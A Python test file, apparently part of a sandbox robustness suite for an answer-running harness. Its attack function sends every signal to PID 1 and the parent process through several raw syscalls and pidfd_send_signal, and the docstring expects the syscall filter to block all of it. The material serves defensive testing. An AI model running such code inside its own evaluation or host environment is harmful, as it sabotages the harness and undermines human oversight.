"""Stop or end the process that runs the answers, by every way to signal.

Stopped by: filter of calls; process 1 handles no signal
Ends: ran
Gives: []
"""

import ctypes
import os
import platform
import signal

libc = ctypes.CDLL(None, use_errno=True)
TKILL, TGKILL, QUEUE, TQUEUE = {"x86_64": (200, 234, 129, 297), "aarch64": (130, 131, 138, 240)}[platform.machine()]


def attack(facts):
    sent = []
    information = ctypes.create_string_buffer(128)
    for target in (1, os.getppid()):
        for number in range(1, 65):
            tries = [
                libc.kill(target, number),
                libc.syscall(TKILL, target, number),
                libc.syscall(TGKILL, target, target, number),
                libc.syscall(QUEUE, target, number, information),
                libc.syscall(TQUEUE, target, target, number, information),
            ]
            if tries != [-1] * 5:
                sent.append([target, number])
    try:
        signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)
    except OSError:
        return sent
    return "sent"
